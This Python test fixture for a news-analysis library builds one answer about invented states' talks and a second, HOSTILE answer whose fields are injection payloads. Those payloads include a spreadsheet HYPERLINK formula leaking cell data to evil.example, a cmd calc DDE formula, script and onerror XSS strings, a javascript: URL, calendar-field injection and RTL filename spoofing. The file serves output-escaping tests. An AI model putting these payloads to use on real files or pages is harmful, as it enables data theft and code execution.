"""Two answers on invented states: TALKS, which has something for every format, and HOSTILE, whose words attack whatever opens them."""

from dataclasses import replace

from communique.answers import Actor, AgendaItem, Answer, Claim, Contact, Issue, Negotiation, Origins, Position
from communique.model import Event, Evidence, Mention, Party, Reading, Report, Role, Span, Speaker, Statement

from ..builder import ANSWER, EARLIER, FIRST, SECOND, span, words

SENTENCES = {
    "r1": (FIRST[: FIRST.index('"')], FIRST[FIRST.index('"') : FIRST.index(" The first")], FIRST[FIRST.index("The first") :]),
    "r3": (EARLIER[: EARLIER.index(" Veldania denied")], EARLIER[EARLIER.index("Veldania denied") :]),
}


def event(key: str, report: str, kind: str, status: str, clause: str, anchor: str, actors: dict[str, str | None], **more: object) -> Event:
    text = {"r1": FIRST, "r2": SECOND, "r3": EARLIER}[report]
    parties = tuple(Party(span(text, one), entity) for one, entity in actors.items())
    recipients = tuple(Party(span(text, one), entity) for one, entity in dict(more.pop("to", {})).items())  # type: ignore[call-overload]
    fixed = {"mode": None, "when": None, "place": None, "account": "outlet"}
    return Event(key, report, kind, status=status, actors=actors and parties, recipients=recipients, span=span(text, clause),
                 anchor=span(text, anchor), **{**fixed, **more})  # type: ignore[arg-type]  # fmt: skip


EVENTS = {
    "r1": (
        event("v1", "r1", "CONSULT", "happened", "The first round ended without a deal in Port Sabel on 29 August", "round", {"Veldania": "XVD", "Foreign Minister Ilan Torvek": "e-torvek"},
              mode="third-party", when="2024-08-29", place="Port Sabel"),
        event("v2", "r1", "CONSULT", "announced", "Veldania will come to Arsk on 26 September", "come", {"Veldania": "XVD"}, when="2024-09-26", account="s1"),
    ),
    "r2": (
        event("v3", "r2", "REJECT", "under-way", "Norland rejects any link", "rejects", {"Norland": "XNL"}, to={"a senior official": None}, account="s4"),
    ),
    "r3": (
        event("v4", "r3", "REQUEST", "happened", "Norland demanded 420 Veldanian boats in May", "demanded", {"Norland": "XNL"}, to={"Veldanian": "XVD"}, when="2024-05", confidence=0.75),
        event("v5", "r3", "CONSULT", "denied", "ministers held any meeting on Gorm island in September", "meeting", {"Veldania": "XVD"}, when="2024-09-10", account="s5"),
    ),
}  # fmt: skip


def _with_events(reading: Reading) -> Reading:
    text = reading.report.text
    sentences = tuple(span(text, one) for one in SENTENCES.get(reading.report.id, (text,)))
    return replace(reading, sentences=sentences, events=EVENTS.get(reading.report.id, ()))


TALKS = replace(
    ANSWER,
    readings=tuple(_with_events(one) for one in ANSWER.readings),
    agenda=(
        *ANSWER.agenda[:1],
        AgendaItem("new round of talks between Norland and Veldania", "2024-10-02/2024-10-04", None, "proposed", (words("r2", "Veldania will come to the table"),)),
        AgendaItem("deadline: the crews are home", "2024-12-31", None, "announced", (words("r1", "unless the crews are home"),)),
        AgendaItem("meeting of Norland", "XXXX-10-01", None, "announced", (words("r3", "any meeting"),)),
        AgendaItem("expires: the truce", "2024-11", None, "announced", (words("r3", "in May"),)),
        AgendaItem("talks of Norland", None, None, "expected", (words("r2", "any link"),)),
        AgendaItem("call between Norland and Veldania", "2024-09-10", None, "passed", (words("r3", "in September"),)),
    ),
)  # fmt: skip

WICKED = (
    '=HYPERLINK("http://evil.example/?"&A1;"open") he wrote\r\nBEGIN:VEVENT\r\nSUMMARY:false </script><script>alert(1)</script> '
    "@SUM(1+1)*cmd|' /C calc'!A0 \u202etxt.exe\u202c \x1b[2J\x07 \u2028 tab\there \ud800 <img src=x onerror=alert(1)> \\n; , Senda \U000e0041 end"
)
_ALL = Span(0, len(WICKED))
_REPORT = Report("../r;9", "-evil\x1b.txt", WICKED, '@Herald\t"x"', "state\u202eagency", "+Title\r\n<b>bold</b>", "javascript:alert(1)//\nhttps://a.example",
                 "2024-09-20T10:00:00Z", "en\u200f", "=by\rline", None, ("=1+1",))  # fmt: skip
_READING = Reading(
    _REPORT,
    sentences=(_ALL,),
    mentions=(Mention(span(WICKED, "Senda"), "state", "XSD"), Mention(span(WICKED, '=HYPERLINK("http://evil.example/?"&A1;"open")'), "person", "e-evil")),
    statements=(
        Statement("s9", _REPORT.id, "mixed", "demands", Speaker("e-evil", span(WICKED, '=HYPERLINK("http://evil.example/?"&A1;"open")')), span(WICKED, "wrote"),
                  (_ALL,), (_ALL,), condition=span(WICKED, "BEGIN:VEVENT")),
    ),
    events=(
        Event("v9", _REPORT.id, "ASSAULT", None, "happened", (Party(span(WICKED, "@SUM(1+1)*cmd|' /C calc'!A0 \u202etxt.exe\u202c \x1b[2J\x07 \u2028 tab\there"), "e-evil"),),
              (Party(span(WICKED, "Senda"), "XSD"),), "2024-02-31", "=Port\nSTATUS:CONFIRMED\u202e", "outlet", _ALL, span(WICKED, "</script>")),
        Event("v8", _REPORT.id, "COOPERATE", None, "under-way", (), (Party(span(WICKED, "Senda"), "XSD"),), "2024", None, "s9", _ALL, span(WICKED, "he wrote")),
    ),
)  # fmt: skip
_PROOF = (Evidence(_REPORT.id, 0, len(WICKED), WICKED), Evidence("gone", 0, 3, "\x00\u202e="))
HOSTILE = Answer(
    readings=(_READING,),
    origins={_REPORT.id: _REPORT.id},
    actor_of={"e-evil": "a-evil", "XSD": "XSD"},
    actors=(
        Actor("a-evil", "-Mallory\u202e\r\nX:1", "person", ("=Mallory", "</script>"), (Role("+minister\x00", "XSD"),), (), (_REPORT.id,), "XSD"),
        Actor("XSD", "Senda", "state", ("Senda",), (), (), (_REPORT.id,), "XSD"),
    ),
    negotiations=(Negotiation("n9", ("XSD", "gone"), (), (), (_REPORT.id,)),),
    contacts=(Contact("k9", "n9", "call", ("XSD", "gone"), {"=x": "</script>"}, "9999-99-99", "@place\r\nEND:VEVENT", "proposed", "s9", (_REPORT.id, "gone"), _PROOF),),
    positions=(Position("XSD", Issue("i9", "=issue;\n\"x\""), "demands", "self", "\x07", WICKED, ("s9",), (_REPORT.id,), None, "2024-09-20"),),
    claims=(Claim("c9", "said", WICKED, "a-evil", (_REPORT.id,), Origins(1, 1), "contested", (), ("XSD", "gone"), (), _PROOF),),
    agenda=(
        AgendaItem("=deadline:\r\nDTSTART:19990101\u202e", "2024-10-02", "@place;\r\nEND:VCALENDAR", "announced", _PROOF),
        AgendaItem("deadline: " + "ü" * 200, "2024-10-03/2024-10-01", None, "<odd>", _PROOF),
    ),
)  # fmt: skip
"""A report whose every field tries something, ids that lead nowhere, dates that do not exist."""
